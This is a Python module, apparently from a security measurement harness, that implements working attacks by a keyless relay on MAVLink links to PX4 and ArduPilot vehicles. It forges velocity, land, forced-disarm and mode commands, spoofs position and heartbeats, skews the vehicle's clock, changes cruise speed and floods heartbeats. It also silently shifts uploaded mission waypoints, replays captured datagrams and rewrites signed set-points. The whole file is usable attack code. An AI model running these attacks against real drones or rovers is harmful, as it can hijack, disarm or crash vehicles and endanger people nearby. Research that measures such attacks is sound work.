"""Attacks of a relay that has no key: forged datagrams in the name of an end, made from those that have passed through it.

Where an attack is one of those of `measurements/mavlink_relay`, it means the same here: `command`, `stop`, `odometry`, `clock`,
`route`, `parameter` and `take_name` are `unsigned-command` with other messages, the replays are `replay-older`, `rewrite` is
`payload-rewrite`. The sockets are left to `relay`.
"""

from collections import deque
from dataclasses import dataclass, field
from typing import Any, Iterator, Optional

from link import mavlink, parser
from receipts import PROGRAM, TO_PROGRAM, VEHICLE

#: Systems that no end has: of a stranger, and of the sender of a flood.
STRANGER, FLOODER = (42, 190), (66, 190)
#: Datagrams that are kept for a replay, of each end.
KEPT = 20_000
#: Mask of a set-point that has a velocity alone, and the frame along the body's axes.
VELOCITY_ONLY, BODY_FRAME = 0xDC7, 8
#: Units of latitude in a metre.
NORTH = 1e7 / 111_195.0
#: Name of the parameter that `parameter` sets, by the autopilot: the speed of missions.
CRUISE = {mavlink.MAV_AUTOPILOT_PX4: b"MPC_XY_CRUISE"}
CRUISE_ARDUPILOT = b"WPNAV_SPEED"
#: Acts of `stop` by its amount: to land, to disarm by force, to hold. The mode that holds is by the autopilot.
LANDS, DISARMS = 0, 1
HOLD_MODES = {mavlink.MAV_AUTOPILOT_PX4: (129.0, 4.0, 3.0)}
HOLD_ARDUPILOT = (129.0, 5.0, 0.0)


@dataclass(frozen=True)
class Datagram:
    """A datagram that passed: its time, the end that sent it, and its messages by a parser without a key."""

    at_s: float
    sender: str
    data: bytes
    messages: list[Any]


@dataclass
class Heard:
    """Knowledge of both ends, from their datagrams."""

    #: System and component of the program; None before its first HEARTBEAT.
    program: Optional[tuple[int, int]] = None
    vehicle: tuple[int, int] = (1, 1)
    autopilot: int = mavlink.MAV_AUTOPILOT_PX4
    #: False for a vehicle on wheels, which cannot land.
    flies: bool = True
    #: Newest messages of the vehicle by type, and items of the last mission by number.
    newest: dict[str, Any] = field(default_factory=dict)
    items: dict[int, Any] = field(default_factory=dict)
    kept: dict[str, "deque[Datagram]"] = field(default_factory=lambda: {end: deque(maxlen=KEPT) for end in (VEHICLE, PROGRAM)})

    def take(self, datagram: Datagram) -> None:
        self.kept[datagram.sender].append(datagram)
        for message in datagram.messages:
            sender, name = (message.get_srcSystem(), message.get_srcComponent()), message.get_type()
            if datagram.sender == PROGRAM and name == "HEARTBEAT":
                self.program = sender
            elif datagram.sender == PROGRAM and name == "MISSION_COUNT":
                self.items = {}
            elif datagram.sender == PROGRAM and name == "MISSION_ITEM_INT":
                self.items[message.seq] = message
            elif datagram.sender == VEHICLE:
                self.newest[name] = message
                if name == "HEARTBEAT":
                    self.vehicle, self.autopilot = sender, message.autopilot
                    self.flies = message.type != mavlink.MAV_TYPE_GROUND_ROVER


class Forger:
    """Makes the messages of one order. `seq` goes on by itself."""

    def __init__(self, attack: str, amount: float, heard: Heard) -> None:
        self.attack, self.amount, self.heard = attack, amount, heard
        self.seq = 0
        #: Number of the item that a forged upload has sent, and of items; None while no upload is open.
        self.upload: Optional[int] = None

    @property
    def to(self) -> str:
        return PROGRAM if self.attack in TO_PROGRAM else VEHICLE

    def missing(self) -> Optional[str]:
        """The message that has to pass through the relay before the attack can begin; None once it has."""
        needs_program = self.attack in ("command", "stop", "route", "replay_command")
        if needs_program and self.heard.program is None:
            return "no program heard yet"
        if self.attack in ("odometry", "take_name") and "GLOBAL_POSITION_INT" not in self.heard.newest:
            return "no position heard yet"
        return None

    def pack(self, message: Any, sender: tuple[int, int]) -> bytes:
        mav = parser(*sender)
        mav.seq, self.seq = self.seq, (self.seq + 1) % 256
        return bytes(message.pack(mav))

    def once(self, now_s: float) -> Iterator[bytes]:
        """The datagrams that the rate of the attack makes due once."""
        make = getattr(self, self.attack, None)
        if make is not None and self.missing() is None:
            yield from make(now_s)

    def command(self, _now_s: float) -> Iterator[bytes]:
        yield self.pack(
            mavlink.MAVLink_set_position_target_local_ned_message(
                0, *self.heard.vehicle, BODY_FRAME, VELOCITY_ONLY, 0, 0, 0, self.amount, 0, 0, 0, 0, 0, 0, 0
            ),
            self.program(),
        )

    def stop(self, _now_s: float) -> Iterator[bytes]:
        act = round(self.amount)
        if act == LANDS and self.heard.flies:
            number, values = mavlink.MAV_CMD_NAV_LAND, (0.0,) * 7
        elif act in (LANDS, DISARMS):
            number, values = mavlink.MAV_CMD_COMPONENT_ARM_DISARM, (0.0, 21196.0, 0.0, 0.0, 0.0, 0.0, 0.0)
        else:
            hold = HOLD_MODES.get(self.heard.autopilot, HOLD_ARDUPILOT)
            number, values = mavlink.MAV_CMD_DO_SET_MODE, (*hold, 0.0, 0.0, 0.0, 0.0)
        yield self.pack(mavlink.MAVLink_command_long_message(*self.heard.vehicle, number, 0, *values), self.program())

    def odometry(self, _now_s: float) -> Iterator[bytes]:
        for message in shifted(self.heard.newest, self.amount):
            yield self.pack(message, self.heard.vehicle)

    def take_name(self, _now_s: float) -> Iterator[bytes]:
        newest = self.heard.newest
        if "HEARTBEAT" in newest:
            yield self.pack(newest["HEARTBEAT"], self.heard.vehicle)
        yield from self.odometry(0.0)

    def clock(self, now_s: float) -> Iterator[bytes]:
        newest = self.heard.newest.get("SYSTEM_TIME")
        if newest is not None:
            ahead = newest.time_unix_usec + int(self.amount * 1e6), (newest.time_boot_ms + int(self.amount * 1e3)) % 2**32
            yield self.pack(mavlink.MAVLink_system_time_message(*ahead), self.heard.vehicle)
        asked = self.asked_time()
        if asked is not None:
            clock = int((now_s + self.amount) * 1e9)
            yield self.pack(mavlink.MAVLink_timesync_message(clock, asked), self.heard.vehicle)

    def asked_time(self) -> Optional[int]:
        """The newest request of the program for the time."""
        for datagram in reversed(self.heard.kept[PROGRAM]):
            for message in datagram.messages:
                if message.get_type() == "TIMESYNC" and message.tc1 == 0:
                    return int(message.ts1)
        return None

    def parameter(self, _now_s: float) -> Iterator[bytes]:
        name = CRUISE.get(self.heard.autopilot, CRUISE_ARDUPILOT)
        yield self.pack(mavlink.MAVLink_param_set_message(*self.heard.vehicle, name, self.amount, mavlink.MAV_PARAM_TYPE_REAL32), STRANGER)

    def flood(self, _now_s: float) -> Iterator[bytes]:
        yield self.pack(mavlink.MAVLink_heartbeat_message(6, 8, 0, 0, 4, 3), FLOODER)

    def route(self, _now_s: float) -> Iterator[bytes]:
        """The beginning of an upload, or the removal of a mission that has not passed. `answers` has the rest."""
        items = self.heard.items
        if not items:
            yield self.pack(mavlink.MAVLink_mission_clear_all_message(*self.heard.vehicle), self.program())
            return
        self.upload = 0
        yield self.pack(mavlink.MAVLink_mission_count_message(*self.heard.vehicle, len(items)), self.program())

    def answers(self, message: Any) -> Optional[list[bytes]]:
        """The answer of an open upload to a message of the vehicle, which the program must not see; None for any other."""
        name = message.get_type()
        if self.upload is None or name not in ("MISSION_REQUEST_INT", "MISSION_ACK"):
            return None
        if name == "MISSION_ACK":
            self.upload = None
            return []
        item = self.heard.items.get(message.seq)
        if item is None:
            return []
        x = item.x + (round(self.amount * NORTH) if item.x or item.y else 0)
        values = (item.param1, item.param2, item.param3, item.param4)
        return [
            self.pack(
                mavlink.MAVLink_mission_item_int_message(
                    *self.heard.vehicle, item.seq, item.frame, item.command, item.current, item.autocontinue, *values, x, item.y, item.z
                ),
                self.program(),
            )
        ]

    def replayed(self, since_s: float, until_s: float) -> Iterator[bytes]:
        """Datagrams that passed `amount` ago, counted from the time between two moments."""
        sender = {"replay_odometry": VEHICLE, "replay_command": PROGRAM}.get(self.attack)
        for datagram in self.heard.kept[sender] if sender else ():
            if since_s < datagram.at_s + self.amount <= until_s:
                yield datagram.data

    def rewritten(self, datagram: Datagram) -> Optional[bytes]:
        """The program's datagram with another forward speed, its signature as it was; None if it has no set-point to rewrite."""
        for message in datagram.messages:
            if message.get_type() == "SET_POSITION_TARGET_LOCAL_NED":
                return sealed(message, self.amount, datagram.data)
        return None

    def program(self) -> tuple[int, int]:
        assert self.heard.program is not None  # as `missing` checks
        return self.heard.program


def shifted(newest: dict[str, Any], north_m: float) -> list[Any]:
    """The newest position of the vehicle, further north."""
    made = []
    if place := newest.get("GLOBAL_POSITION_INT"):
        rest = (place.alt, place.relative_alt, place.vx, place.vy, place.vz, place.hdg)
        lat = place.lat + round(north_m * NORTH)
        made.append(mavlink.MAVLink_global_position_int_message(place.time_boot_ms, lat, place.lon, *rest))
    if place := newest.get("LOCAL_POSITION_NED"):
        fields = (place.y, place.z, place.vx, place.vy, place.vz)
        made.append(mavlink.MAVLink_local_position_ned_message(place.time_boot_ms, place.x + north_m, *fields))
    return made


def sealed(message: Any, forward: float, data: bytes) -> bytes:
    """A set-point with another speed, under a right checksum; the bytes behind it, a signature, stay as they were."""
    mav = parser(message.get_srcSystem(), message.get_srcComponent())
    mav.seq = message.get_seq()
    made = mavlink.MAVLink_set_position_target_local_ned_message(
        message.time_boot_ms, message.target_system, message.target_component, BODY_FRAME, VELOCITY_ONLY,
        0, 0, 0, forward, 0, 0, 0, 0, 0, 0, 0,
    )  # fmt: skip
    frame = bytearray(made.pack(mav))
    if not data[2] & mavlink.MAVLINK_IFLAG_SIGNED:
        return bytes(frame)
    frame[2] |= mavlink.MAVLINK_IFLAG_SIGNED
    body = bytes(frame[1:-2]) + bytes([made.crc_extra])
    checksum = mavlink.x25crc(body).crc
    signature = data[-mavlink.MAVLINK_SIGNATURE_BLOCK_LEN :]
    return bytes(frame[:-2]) + int(checksum).to_bytes(2, "little") + signature
